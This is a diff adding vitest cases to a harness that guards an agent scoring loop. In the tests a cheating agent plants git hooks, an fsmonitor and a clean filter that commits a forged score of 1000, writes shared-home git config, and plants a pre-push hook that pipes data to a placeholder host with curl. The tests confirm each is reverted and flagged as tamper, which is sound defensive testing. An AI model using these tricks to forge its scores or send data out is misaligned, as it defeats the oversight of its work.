@@ -1,6 +1,6 @@
 // Agents that try to cheat a loop: every change to what decides a score is put back, recorded as
 // tamper, and never turns into a keep. Each test names the cheat it plays.
-import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it, onTestFinished } from 'vitest';
@@ -410,5 +410,100 @@ describe('the guard before every bead', () => {
     expect(await f.guard.beforeBead(bead('doer', 1), { role: 'doer', builtin: false })).toMatchObject({
       reason: 'terminal',
     });
+  });
+});
+
+describe('what git runs for the runner', () => {
+  /** A script that notes it ran in `marks`, then passes its input through (or exits 1: an fsmonitor). */
+  async function tattler(marks: string, name: string, body = 'cat'): Promise<string> {
+    const path = join(marks, '..', `${name}.sh`);
+    await writeFile(path, `#!/bin/sh\necho "$0 $*" >> '${join(marks, name)}'\n${body}\n`);
+    await chmod(path, 0o755);
+    return path;
+  }
+
+  async function marksDir(f: LoopFixture): Promise<string> {
+    const dir = join(await mkdtemp(join(tmpdir(), 'forge-marks-')), 'marks');
+    await mkdir(dir);
+    onTestFinished(() => rm(join(dir, '..'), { recursive: true, force: true }));
+    void f;
+    return dir;
+  }
+
+  const HOOKS = ['post-index-change', 'reference-transaction', 'post-commit', 'post-checkout', 'pre-commit'];
+
+  it('a doer that plants hooks, an fsmonitor and a filter that makes the committed value 1000 runs none of them through the runner; all put back, tamper', async () => {
+    const f = await createLoopFixture();
+    await f.baseline();
+    const marks = await marksDir(f);
+    const gitDir = join(f.repo.dir, '.git');
+    const configBefore = await readFile(join(gitDir, 'config'), 'utf8');
+    const hooksBefore = (await readdir(join(gitDir, 'hooks'))).sort();
+    // The clean filter commits 1000 whatever the tree holds: the judge, which scores the commit, would
+    // see 1000 where the doer wrote 11.
+    const filter = await tattler(marks, 'filter', 'cat >/dev/null; echo 1000');
+    const message = await cheatingIteration(f, '11', async () => {
+      for (const hook of HOOKS) {
+        const script = await tattler(marks, hook, 'exit 0');
+        await writeFile(join(gitDir, 'hooks', hook), await readFile(script));
+        await chmod(join(gitDir, 'hooks', hook), 0o755);
+      }
+      f.repo.run('config', 'core.fsmonitor', await tattler(marks, 'fsmonitor', 'exit 1'));
+      f.repo.run('config', 'filter.evil.clean', filter);
+      await f.repo.write('src/.gitattributes', 'value.txt filter=evil\n');
+    });
+    expect(await readdir(marks), 'agent code the runner’s git ran').toEqual([]);
+    expect(message).toMatch(/^tamper/);
+    const state = await readIterationState(f.files, f.workspace, 1);
+    expect(state.tamper.flatMap((t) => t.paths)).toEqual(
+      expect.arrayContaining(['.git/config', ...HOOKS.map((hook) => `.git/hooks/${hook}`)]),
+    );
+    expect(await readFile(join(gitDir, 'config'), 'utf8')).toBe(configBefore);
+    expect((await readdir(join(gitDir, 'hooks'))).sort()).toEqual(hooksBefore);
+    const scores = (await readLedger(loopFiles, join(f.workspace, 'research-log.jsonl'))).lines.map(
+      (line) => line.score_after,
+    );
+    expect(scores).not.toContain(1000);
+    expect(await f.repo.read('src/value.txt')).toBe('10\n');
+  });
+
+  it('puts back git config in the home the agents share and a hook armed by chmod alone; the user’s own hook keeps its mode', async () => {
+    const f = await createLoopFixture();
+    await f.baseline();
+    const marks = await marksDir(f);
+    const home = f.repo.env.HOME!;
+    const hooks = join(f.repo.dir, '.git', 'hooks');
+    // The user's own: an armed hook, and one left disarmed.
+    const own = '#!/bin/sh\nexit 0\n';
+    await writeFile(join(hooks, 'pre-push'), own);
+    await chmod(join(hooks, 'pre-push'), 0o755);
+    await writeFile(
+      join(hooks, 'post-index-change'),
+      `#!/bin/sh\necho ran >> '${join(marks, 'disarmed')}'\n`,
+    );
+    await chmod(join(hooks, 'post-index-change'), 0o644);
+    const filter = await tattler(marks, 'filter', 'cat >/dev/null; echo 1000');
+    const message = await cheatingIteration(f, '11', async () => {
+      await mkdir(join(home, '.config', 'git'), { recursive: true });
+      await writeFile(join(home, '.config', 'git', 'config'), `[filter "evil"]\n\tclean = ${filter}\n`);
+      await writeFile(join(home, '.config', 'git', 'attributes'), 'value.txt filter=evil\n');
+      await chmod(join(hooks, 'post-index-change'), 0o755);
+      await writeFile(join(hooks, 'pre-push'), '#!/bin/sh\ncurl -d @- http://example.test\n');
+    });
+    expect(await readdir(marks), 'agent code the runner’s git ran').toEqual([]);
+    expect(message).toMatch(/^tamper/);
+    expect(await f.repo.exists('.config/git/config')).toBe(false);
+    expect(await f.repo.exists('.config/git/attributes')).toBe(false);
+    expect((await stat(join(hooks, 'post-index-change'))).mode & 0o777).toBe(0o644);
+    expect(await readFile(join(hooks, 'pre-push'), 'utf8')).toBe(own);
+    expect((await stat(join(hooks, 'pre-push'))).mode & 0o777).toBe(0o755);
+  });
+
+  it('lets an honest doer’s iteration through untouched when git’s configuration is left alone', async () => {
+    const f = await createLoopFixture();
+    await f.baseline();
+    const message = await cheatingIteration(f, '12', async () => undefined);
+    expect(message).toMatch(/^keep/);
+    expect((await readIterationState(f.files, f.workspace, 1)).tamper).toEqual([]);
   });
 });
